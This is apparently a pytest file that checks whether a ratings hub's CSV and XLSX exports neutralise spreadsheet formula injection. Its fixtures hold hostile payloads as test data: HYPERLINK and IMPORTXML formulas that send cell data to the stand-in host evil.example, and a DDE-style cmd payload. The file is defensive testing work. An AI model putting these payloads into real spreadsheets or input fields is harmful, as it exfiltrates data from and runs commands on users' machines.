"""Formula injection: labels from kiosks and notes from people never become formulas in exports.

A real hub (real Mosquitto, real SQLite) receives ratings whose counter and officer labels start
with each character a spreadsheet reads as a formula; an alert opened at such a counter is
closed with such a note. Every CSV table and the XLSX report must hold them as text (with
OWASP's leading quote) and keep every number a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from hailong import contract
from hailong.broker import Broker
from hailong.spreadsheet import FORMULA_STARTS, neutral
from hailong.topics import kiosk_topic
from hub.admin.accounts import Accounts
from tests.support import PASSWORD, RawClient, RunningHub, hub_settings, sign_in, wait_until, write_toml
from tests.support.hubdata import response

# One label per dangerous first character: =, +, -, @, tab, carriage return.
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Quầy 1")'
COUNTERS = [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+3"]
OFFICERS = ["+cb-01", "=cmd|' /C calc'!A0", "@officer"]
NOTE = "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")"


def test_neutral_quotes_exactly_the_formula_starts() -> None:
    table = {"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx",
             "\rx": "'\rx", "Quầy 1": "Quầy 1", "": "", "a=b": "a=b", "'=1": "'=1"}
    assert {k: neutral(k) for k in table} == table
    assert [neutral(v) for v in (-1, -0.25, 0, 3.5, None, True)] == [-1, -0.25, 0, 3.5, None, True]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHub]:
    from tests.support import mosquitto_available, require

    require("Mosquitto", mosquitto_available(), "sudo apt-get install -y mosquitto")
    tmp = tmp_path_factory.mktemp("formulas")
    broker = Broker(tmp / "broker").start()
    roster = write_toml(tmp / "roster.toml", '[[offices]]\nid = "ubnd-a"\nname = "-UBND A"\n'
                        'province = "dak-nong"\n')
    running = RunningHub(hub_settings(tmp / "hub", broker.url, roster=str(roster),
                                      client_id="hailong-hub-formulas"))
    try:
        Accounts(running.hub.store.engine).add_user("root", "admin", [], PASSWORD)
        raw = RawClient(broker.url)
        now = datetime.now(UTC) - timedelta(seconds=30)
        seq = 0
        for index, counter in enumerate(COUNTERS):
            for _ in range(4):  # four low answers at the first counter open an alert there
                seq += 1
                raw.publish(kiosk_topic("ubnd-a", "k01", "response"), contract.encode(response(
                    "ubnd-a", "k01", seq, counter=counter, officer=OFFICERS[seq % 3],
                    answers={"overall": 1 if index == 0 else 5, "officer": 4}, at=now)))
        raw.close()
        wait_until(lambda: running.hub.ingestor.counters.stored == seq,
                   message="the ratings stored")
        alerts = wait_until(lambda: running.get("/api/v1/offices/ubnd-a/alerts?state=open")[1]
                            ["alerts"], message="the alert opened")
        closed = httpx.post(f"{running.url}/api/v1/offices/ubnd-a/alerts/{alerts[0]['id']}/close",
                            headers=running.auth, json={"note": NOTE})
        assert closed.status_code == 200, closed.text
        yield running
    finally:
        running.stop()
        broker.stop()


def downloads(site: RunningHub) -> tuple[dict[str, str], bytes]:
    with httpx.Client(base_url=site.url, timeout=30) as client:
        assert sign_in(client, "root", PASSWORD).status_code == 200
        tables = {}
        # the machine's CSV (lang=en) and the people's (Vietnamese, "….vi"): both neutral
        for lang, suffix in (("en", ""), ("vi", ".vi")):
            for table in ("counters", "officers", "alerts", "summary", "periods"):
                reply = client.get(f"/offices/ubnd-a/report.csv?table={table}&lang={lang}")
                assert reply.status_code == 200, reply.text
                tables[table + suffix] = reply.text.lstrip("\ufeff")
        xlsx = client.get("/offices/ubnd-a/report.xlsx")
        assert xlsx.status_code == 200
    return tables, xlsx.content


def live(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_every_csv_table_holds_the_labels_and_notes_as_text(site: RunningHub) -> None:
    tables, _ = downloads(site)
    cells = {table: list(csv.reader(io.StringIO(text, newline=""))) for table, text in
             tables.items()}
    assert not [(t, c) for t, rows in cells.items() for row in rows for c in row if live(c)]
    counters = list(csv.DictReader(io.StringIO(tables["counters"], newline="")))
    assert sorted(r["key"] for r in counters) == sorted("'" + c for c in COUNTERS)
    assert all(float(r["responses"]) == 4 for r in counters)  # numbers stay numbers
    officers = {r["key"] for r in csv.DictReader(io.StringIO(tables["officers"], newline=""))}
    assert {"'" + o for o in OFFICERS} <= officers
    alerts = list(csv.DictReader(io.StringIO(tables["alerts"], newline="")))
    # The closed alert, with its note; when the live scores' last refresh (responses stored in
    # several batches) ran after the close, the same low answers opened a second one, no note.
    assert ("'" + LINK, "'" + NOTE) in [(a["counter"], a["note"]) for a in alerts]
    assert {(a["counter"], a["note"]) for a in alerts} <= {("'" + LINK, "'" + NOTE), ("'" + LINK, "")}
    assert all(float(a["share"]) == 1.0 for a in alerts)


def test_the_xlsx_holds_no_formula_and_keeps_numbers(site: RunningHub) -> None:
    _, content = downloads(site)
    book = load_workbook(io.BytesIO(content))
    formulas, texts, numbers = [], set(), 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or live(cell.value):
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str):
                    texts.add(cell.value.replace("\r", "\n"))
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert formulas == []
    # Whether a carriage return survives the XML depends on the openpyxl/lxml release ("\r" kept as
    # _x000D_, or read back as "\n"): compared with both as "\n", still text after the quote.
    wanted = {"'" + c.replace("\r", "\n") for c in COUNTERS} | {"'" + o for o in OFFICERS}
    assert wanted | {"'" + NOTE} <= texts
    assert numbers > 50
    assert book.worksheets[1]["A1"].value.endswith("-UBND A")  # the title is not a formula
    assert book.worksheets[0]["A2"].value == "'-UBND A"  # nor the office column (long format)
